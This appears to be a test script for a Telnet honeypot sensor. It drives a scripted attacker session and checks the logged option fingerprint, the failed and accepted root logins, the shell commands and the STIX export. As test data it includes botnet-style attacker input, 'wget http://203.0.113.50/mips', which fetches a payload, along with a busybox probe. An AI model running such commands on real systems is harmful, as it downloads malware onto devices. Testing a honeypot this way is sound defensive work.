# test_sensor_telnet.sh — a scripted Telnet conversation (telnet_session.py)
# against the sensor: option negotiation answered and logged as a
# fingerprint, window size and terminal type, a refused and an accepted
# login, commands in the emulated shell (never executed), a download
# attempt; then the exact events of the session and its STIX in a store.
source "$(dirname "$0")/lib.sh"

"$ACCORD" init >/dev/null
start_sensor --set store_dir="$ACCORD_DATA" --set batch=1 \
  --set "accept=root:!root root:*"
rm -f /tmp/pwned-telnet
run 0 python3 "$SENSOR_TESTS/telnet_session.py" "$TELNET_PORT"
wait_events 1 eventid=cowrie.session.closed protocol=telnet
[ -e /tmp/pwned-telnet ] && fail "an attacker command touched the file system"

SID=$(jsonq eventid=cowrie.session.connect protocol=telnet -- session)
jsonq session="$SID" -- eventid >"$T/seq"
printf '%s\n' cowrie.session.connect accord.client.telnet \
  cowrie.client.size cowrie.login.failed cowrie.login.success \
  cowrie.command.input cowrie.command.input \
  cowrie.session.file_download cowrie.command.input \
  cowrie.session.closed >"$T/seq.want"
diff -u "$T/seq.want" "$T/seq" || fail "events of session $SID"

jsonq eventid=accord.client.telnet -- options ttype >"$T/neg"
expect_eq "$(cat "$T/neg")" "$(printf 'D1,D3,W31,S31,W24,D99\t')" \
  "negotiation at the first line"
FP=$(jsonq eventid=accord.client.telnet -- fingerprint)
expect_eq "$FP" "$(printf 'D1,D3,W31,S31,W24,D99' | md5sum | cut -c1-32)" \
  "fingerprint is the MD5 of the options"
expect_eq "$(jsonq eventid=cowrie.client.size -- width height)" \
  "$(printf '100\t40')" "window size"
expect_eq "$(jsonq eventid=cowrie.login.failed -- username password)" \
  "$(printf 'root\troot')" "failed login"
expect_eq "$(jsonq eventid=cowrie.login.success -- username password)" \
  "$(printf 'root\tletmein')" "login"
jsonq eventid=cowrie.command.input -- input >"$T/c"
printf '%s\n' 'cd /tmp; /bin/busybox ECCHI' \
  'wget http://203.0.113.50/mips; touch /tmp/pwned-telnet' exit >"$T/c.want"
diff -u "$T/c.want" "$T/c" || fail "commands"
expect_eq "$(jsonq eventid=cowrie.session.file_download -- url)" \
  "http://203.0.113.50/mips" "download attempt"
expect_eq "$(jsonq eventid=cowrie.session.closed -- reason)" "logout" \
  "closed by logout"

stop_sensor
expect_eq "$SENSOR_RC" 0 "sensor exit status"
expect_eq "$(count_type observed-data)" 1 "observed-data"
"$ACCORD" export --type network-traffic >"$T/nt.json"
expect_in "$T/nt.json" "\"dst_port\":$TELNET_PORT"
expect_in "$T/nt.json" '"protocols":["ipv4","tcp","telnet"]'
"$ACCORD" export --type user-account >"$T/ua.json"
expect_in "$T/ua.json" '"account_login":"root","credential":"letmein"'
"$ACCORD" export --type url >"$T/url.json"
expect_in "$T/url.json" '"value":"http://203.0.113.50/mips"'
pass
